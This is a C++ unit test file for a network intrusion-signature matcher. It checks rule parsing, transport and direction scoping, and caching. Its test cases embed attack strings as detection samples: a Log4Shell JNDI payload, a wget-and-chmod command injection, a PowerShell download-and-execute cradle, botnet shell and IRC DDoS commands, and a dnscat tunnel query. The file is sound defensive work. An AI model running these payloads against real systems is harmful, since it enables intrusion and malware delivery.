#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <map>
#include <set>
#include <vector>

#include "features/signatures.h"

using namespace ls;

namespace {

std::string err(const std::string& text) {
  try {
    RuleSet::load_string(text, "t.rules");
  } catch (const RuleError& e) {
    return e.what();
  }
  return "";
}

TEST(Rules, ParseErrorsNameTheLine) {
  EXPECT_EQ(err("# c\n1:/ab(c/ x\n"), "t.rules:2: rule 1: Missing close parenthesis for group started at index 2.");
  EXPECT_EQ(err("1:/a/q x\n"), "t.rules:1: unknown flag 'q' (i s m 8 W)");
  EXPECT_EQ(err("1:/a/ x\n1:/b/ y\n"), "t.rules:2: duplicate rule id 1 (line 1)");
  EXPECT_EQ(err("x:/a/\n"), "t.rules:1: rule id 'x' is not an unsigned integer");
  EXPECT_EQ(err("7 abc\n"), "t.rules:1: expected ID:/PATTERN/FLAGS [name]");
  EXPECT_EQ(err("# only comments\n"), "t.rules: no rules");
  const std::string known = " (tcp udp icmp other ip; directions: to_server to_client)";
  EXPECT_EQ(err("tcp,sctp 1:/a/ x\n"), "t.rules:1: unknown transport 'sctp'" + known);
  EXPECT_EQ(err("tcp,,udp 1:/a/ x\n"), "t.rules:1: unknown transport ''" + known);
  EXPECT_EQ(err("to_srv 1:/a/ x\n"), "t.rules:1: unknown transport 'to_srv'" + known);
  EXPECT_EQ(err("udp\n"), "t.rules:1: expected [TRANSPORTS] [DIRECTION] ID:/PATTERN/FLAGS [name]");
  EXPECT_EQ(err("to_server to_client 1:/a/ x\n"), "t.rules:1: more than one direction");
  EXPECT_EQ(err("to_server tcp 1:/a/ x\n"), "t.rules:1: 'tcp': transports come first, once");
  EXPECT_EQ(err("tcp udp 1:/a/ x\n"), "t.rules:1: 'udp': transports come first, once");
  EXPECT_EQ(err("udp 1:/ab(c/ x\n"), "t.rules:1: rule 1: Missing close parenthesis for group started at index 2.");
  // A bad pattern is named by its own line whichever transport's database it is in.
  EXPECT_EQ(err("tcp 1:/a/ x\nudp 2:/b/ y\nicmp 3:/(/ z\n"),
            "t.rules:3: rule 3: Missing close parenthesis for group started at index 0.");
  std::string many;
  for (int i = 0; i < 65; i++) many += std::to_string(i) + ":/r" + std::to_string(i) + "/\n";
  EXPECT_NE(err(many).find("more than 64 rules"), std::string::npos);
  EXPECT_THROW(RuleSet::load_file("/nonexistent.rules"), RuleError);
}

// `fwd`: what the initiator (key.lo) sent.
FlowRecord rec(const std::string& fwd, uint8_t proto = 6, uint16_t lo_port = 40000, uint16_t hi_port = 80) {
  FlowRecord r{};
  r.e.init_lo = 1;
  r.e.key.ip_ver = 4;
  r.e.key.proto = proto;
  r.e.key.lo_port = lo_port;
  r.e.key.hi_port = hi_port;
  r.paylen[0] = uint16_t(std::min<size_t>(fwd.size(), FlowTable::kMaxPayload));
  std::memcpy(r.payload[0], fwd.data(), r.paylen[0]);
  return r;
}

uint64_t bit_of(const RuleSet& rs, uint32_t id) {
  for (size_t i = 0; i < rs.rules().size(); i++)
    if (rs.rules()[i].id == id) return 1ull << i;
  return 0;
}

// Transports scope a rule as a Suricata rule header's protocol does: run over flows of
// those transports only; no list, or `ip`, means all of them.
TEST(Rules, TransportsScopeWhereARuleRuns) {
  auto rules = RuleSet::parse("tcp 1:/a/ x\nudp,icmp 2:/a/ y\n3:/a/ z\nip 4:/a/ w\nother 5:/a/ v\n", "t.rules");
  ASSERT_EQ(rules.size(), 5u);
  EXPECT_EQ(rules[0].scope, 1u << kTcp);
  EXPECT_EQ(rules[1].scope, (1u << kUdp) | (1u << kIcmp));
  EXPECT_EQ(rules[2].scope, kAllTransports);
  EXPECT_EQ(rules[3].scope, kAllTransports);
  EXPECT_EQ(rules[4].scope, 1u << kOtherIp);
  EXPECT_EQ(rules[0].pattern, "a");
  EXPECT_EQ(rules[1].name, "y");

  auto rs = RuleSet::load_string("tcp 1:/a/ x\nudp,icmp 2:/a/ y\n3:/a/ z\nother 5:/a/ v\n", "t.rules");
  SignatureMatcher m(rs);
  EXPECT_EQ(m.match(rec("a", 6)), 0b0101u);
  EXPECT_EQ(m.match(rec("a", 17)), 0b0110u);
  EXPECT_EQ(m.match(rec("a", 1, 0x1234, 0x1234)), 0b0110u);
  EXPECT_EQ(m.match(rec("a", 58, 0x8000, 0x8000)), 0b0110u);  // ICMPv6 echo
  EXPECT_EQ(m.match(rec("a", 132)), 0b1100u);                 // SCTP: other
  // A transport no rule runs over has no database: nothing is scanned.
  auto tcp_only = RuleSet::load_string("tcp 1:/a/ x\n", "t.rules");
  EXPECT_NE(tcp_only->db(kTcp), nullptr);
  EXPECT_EQ(tcp_only->db(kUdp), nullptr);
  EXPECT_EQ(SignatureMatcher(tcp_only).match(rec("a", 17)), 0u);
  // Transports with the same rules share one database.
  EXPECT_EQ(rs->db(kUdp), rs->db(kIcmp));
  EXPECT_NE(rs->db(kTcp), rs->db(kUdp));
}

// A direction scopes a rule to what the flow's initiator sent (to_server) or received
// (to_client), as Suricata's flow keyword; the initiator may be either address.
TEST(Rules, DirectionsScopeWhichSideARuleReads) {
  auto rules = RuleSet::parse("tcp to_server 1:/a/ x\nto_client 2:/a/ y\n3:/a/ z\n", "t.rules");
  ASSERT_EQ(rules.size(), 3u);
  EXPECT_EQ(rules[0].dirs, 1u << kToServer);
  EXPECT_EQ(rules[0].scope, 1u << kTcp);
  EXPECT_EQ(rules[1].dirs, 1u << kToClient);
  EXPECT_EQ(rules[1].scope, kAllTransports);
  EXPECT_EQ(rules[2].dirs, kBothDirections);
  auto rs = RuleSet::load_string("tcp to_server 1:/a/ x\nto_client 2:/a/ y\n3:/a/ z\n", "t.rules");
  SignatureMatcher m(rs);
  FlowRecord r = rec("a");  // lo initiated and sent "a"
  EXPECT_EQ(m.match(r), 0b101u);
  r.e.init_lo = 0;  // hi initiated: the same bytes are now the response
  EXPECT_EQ(m.match(r), 0b110u);
  std::swap(r.paylen[0], r.paylen[1]);  // and now hi's request
  std::memcpy(r.payload[1], r.payload[0], r.paylen[1]);
  EXPECT_EQ(m.match(r), 0b101u);
  r.e.key.proto = 17;
  EXPECT_EQ(m.match(r), 0b100u);
  EXPECT_EQ(rs->lane_mask(kTcp, kToClient), 0b110u);
  EXPECT_EQ(rs->lane_mask(kUdp, kToServer), 0b100u);
}

// A compiled-database cache serves the same rules without compiling, and anything it
// cannot serve (damaged file, unwritable directory) costs a compile, never the rules.
TEST(Rules, CacheServesTheSameDatabaseAndSurvivesDamage) {
  char tmpl[] = "/tmp/ls_rules_cache_XXXXXX";
  ASSERT_NE(mkdtemp(tmpl), nullptr);
  const std::string dir = tmpl;
  // Scoped rules: the cache holds one database per distinct transport subset.
  const std::string text = "tcp 1:/NICK [^\\s]{1,32}\\r?\\nUSER /s irc\n2:/jndi:(ldap|rmi):\\/\\//i jndi\n";
  const FlowRecord hits[] = {rec("NICK bot\r\nUSER x"), rec("GET /${JNDI:ldap://e}"), rec("nothing here"),
                             rec("NICK bot\r\nUSER x ${jndi:rmi://e}", 17)};
  auto masks = [&](const std::shared_ptr<const RuleSet>& rs) {
    SignatureMatcher m(rs);
    std::vector<uint64_t> v;
    for (auto& r : hits) v.push_back(m.match(r));
    return v;
  };
  const std::vector<uint64_t> want = {1, 2, 0, 2};
  auto first = RuleSet::load_string(text, "t.rules", dir);
  EXPECT_EQ(first->cache_status().rfind("compiled, cached as " + dir + "/rules-", 0), 0u) << first->cache_status();
  auto second = RuleSet::load_string(text, "t.rules", dir);
  EXPECT_EQ(second->cache_status(), "cache hit");
  EXPECT_EQ(masks(first), want);
  EXPECT_EQ(masks(second), want);
  ASSERT_EQ(second->rules().size(), 2u);
  EXPECT_EQ(second->rules()[1].name, "jndi");  // names come from the text, not the cache

  // Other rules: another entry beside the first.
  auto other = RuleSet::load_string("1:/zzz/ z\n", "u.rules", dir);
  EXPECT_NE(other->cache_status(), "cache hit");
  std::string file = first->cache_status().substr(std::strlen("compiled, cached as "));
  // One byte of the database flipped: found damaged, recompiled, rewritten, then served.
  {
    FILE* f = std::fopen(file.c_str(), "r+b");
    ASSERT_NE(f, nullptr);
    std::fseek(f, 100, SEEK_SET);
    int c = std::fgetc(f);
    std::fseek(f, 100, SEEK_SET);
    std::fputc(c ^ 0x5a, f);
    std::fclose(f);
  }
  auto repaired = RuleSet::load_string(text, "t.rules", dir);
  EXPECT_EQ(repaired->cache_status(), "compiled; cache " + file + " unusable: damaged; rewritten");
  EXPECT_EQ(masks(repaired), want);
  EXPECT_EQ(RuleSet::load_string(text, "t.rules", dir)->cache_status(), "cache hit");
  // A cache written by an older linesight (one database, format 1): compiled and rewritten.
  {
    std::FILE* f = std::fopen(file.c_str(), "wb");
    std::fputs("LSHSDB1\nold", f);
    std::fclose(f);
  }
  EXPECT_EQ(RuleSet::load_string(text, "t.rules", dir)->cache_status(),
            "compiled; cache " + file + " unusable: written by an older linesight; rewritten");
  EXPECT_EQ(masks(RuleSet::load_string(text, "t.rules", dir)), want);
  // Not a cache file at all (a stray file under the name): the same.
  { std::FILE* f = std::fopen(file.c_str(), "wb"); std::fputs("junk", f); std::fclose(f); }
  EXPECT_EQ(RuleSet::load_string(text, "t.rules", dir)->cache_status(),
            "compiled; cache " + file + " unusable: not a linesight rules cache; rewritten");
  // A directory that cannot be made: rules still load and match.
  auto nodir = RuleSet::load_string(text, "t.rules", file + "/sub");
  EXPECT_NE(nodir->cache_status().find("not written: Not a directory"), std::string::npos) << nodir->cache_status();
  EXPECT_EQ(masks(nodir), want);
  std::filesystem::remove_all(dir);
}

class DefaultRules : public ::testing::Test {
 protected:
  static void SetUpTestSuite() { rs = RuleSet::load_file(LS_SOURCE_ROOT "/features/rules/default.rules"); }
  static std::shared_ptr<const RuleSet> rs;
  bool hits(uint32_t id, const FlowRecord& r) {
    SignatureMatcher m(rs);
    return m.match(r) & bit_of(*rs, id);
  }
};
std::shared_ptr<const RuleSet> DefaultRules::rs;

TEST_F(DefaultRules, EveryRuleHasAPositiveAndANegative) {
  struct Case {
    uint32_t id;
    std::string yes, no;
    uint8_t proto = 6;  // a transport the rule runs over
  };
  std::string dnsq = std::string("\x12\xb0\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  std::vector<Case> cases = {
      {1001, R"({"method":"login","params":{"login":"4BCe)", R"({"method":"getinfo"})"},
      {1002, R"({"worker": "eth1.0", "jsonrpc": "2.0", "params": [)", R"({"jsonrpc": "2.0", "id": 1})"},
      {1101, "GET /?x=${jndi:ldap://1.2.3.4/a} HTTP/1.1\r\n", "GET /jndi/ldap HTTP/1.1\r\n"},
      {1102, "GET /Exploit.class HTTP/1.1\r\nUser-Agent: Java/1.8\r\n", "GET /index.html HTTP/1.1\r\n"},
      {1201, "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6)\r\n", "GET / HTTP/1.1\r\nUser-Agent: curl/8\r\n"},
      {1202, "GET /cgi?cmd=cd+/tmp;wget+http://1.2.3.4/x.sh;chmod+777+x.sh HTTP/1.1", "GET /wget-manual.html HTTP/1.1"},
      {1203, "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", "/bin/busybox ls\r\n"},
      {1301, dnsq + "\x06" "dnscat" "\x3c" "546b03f50000000000a6023ed4df184d6ac5c2628b47714fdee584fe",
       dnsq + "\x20" "FDEBEOEKEJCNEMEJEGEFECEPEPELCNCA" "\x00", 17},
      {1302, std::string("\x45\x00\x00\x54\x00\x00\x40\x00\x40\x01\x23\xe9", 12), "\x45\x00 hello", 17},
      {1401, "NICK bot123\r\nUSER bot 0 * :bot\r\n", "NICKNAME=x\r\n"},
      {1402, "PRIVMSG #chan :!ddos 1.2.3.4 80\r\n", "PRIVMSG #chan :hello world\r\n"},
      {1501, "GET / HTTP/1.1\r\nCookie: 48736=DfFOfQvCt/qYhIG3Uc81oULGUQy0r25Wtiu+JG453r+WJxni\r\n",
       "GET / HTTP/1.1\r\nCookie: session=abc\r\n"},
      {1502, "GET /dpixel HTTP/1.1\r\nAccept: */*\r\n", "GET /dpixel.png HTTP/1.1\r\n"},
      {1503, "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x')", "New-Object System.IO.File"},
  };
  ASSERT_EQ(cases.size(), rs->rules().size()) << "a rule without a test case";
  for (auto& c : cases) {
    EXPECT_TRUE(hits(c.id, rec(c.yes, c.proto))) << "rule " << c.id << " misses its positive";
    EXPECT_FALSE(hits(c.id, rec(c.no, c.proto))) << "rule " << c.id << " fires on its negative";
  }
  // The transports each rule is scoped to (docs/rules.md): its positive on the others
  // raises nothing. 0 = all.
  const std::map<uint32_t, uint8_t> scope = {
      {1001, 1 << kTcp}, {1002, 1 << kTcp}, {1101, 0},
      {1102, 1 << kTcp}, {1201, 1 << kTcp}, {1202, 1 << kTcp | 1 << kUdp},
      {1203, 1 << kTcp}, {1301, 1 << kUdp}, {1302, 1 << kUdp | 1 << kIcmp},
      {1401, 1 << kTcp}, {1402, 1 << kTcp}, {1501, 1 << kTcp},
      {1502, 1 << kTcp}, {1503, 1 << kTcp}};
  const uint8_t protos[kTransports] = {6, 17, 1, 47};
  for (auto& c : cases) {
    uint8_t want = scope.at(c.id) ? scope.at(c.id) : kAllTransports;
    for (int t = 0; t < kTransports; t++)  // ICMP as echo (ids in both ports), not an error
      EXPECT_EQ(hits(c.id, rec(c.yes, protos[t], 0x4242, 0x4242)), bool(want & (1 << t)))
          << "rule " << c.id << " on transport " << t;
  }
  // Rules about what a client sends (requests, logins, injected commands) do not read
  // responses; the others read both sides.
  const std::set<uint32_t> to_server = {1001, 1002, 1102, 1201, 1202, 1203, 1401, 1501, 1502};
  for (auto& c : cases) {
    FlowRecord r = rec(c.yes, c.proto);
    r.e.init_lo = 0;  // the same bytes, sent by the responder
    EXPECT_EQ(hits(c.id, r), !to_server.count(c.id)) << "rule " << c.id << " on a response";
  }
}

TEST_F(DefaultRules, IcmpErrorsQuoteHeadersAndAreNotMatched) {
  std::string quoted("\x45\x00\x00\x3c\x08\xe7\x00\x00\x32\x06\xc6\x7b", 12);
  EXPECT_TRUE(hits(1302, rec(quoted, 1, 0x1234, 0x1234)));   // echo: a tunnel
  EXPECT_FALSE(hits(1302, rec(quoted, 1, 0, 3 << 8 | 1)));   // destination unreachable
  EXPECT_FALSE(hits(1302, rec(quoted, 58, 0, 1 << 8)));      // ICMPv6 unreachable
}

TEST_F(DefaultRules, HitIdsListsRuleIds) {
  uint64_t m = bit_of(*rs, 1101) | bit_of(*rs, 1503);
  EXPECT_EQ(hit_ids(*rs, m), "1101;1503");
}

}  // namespace
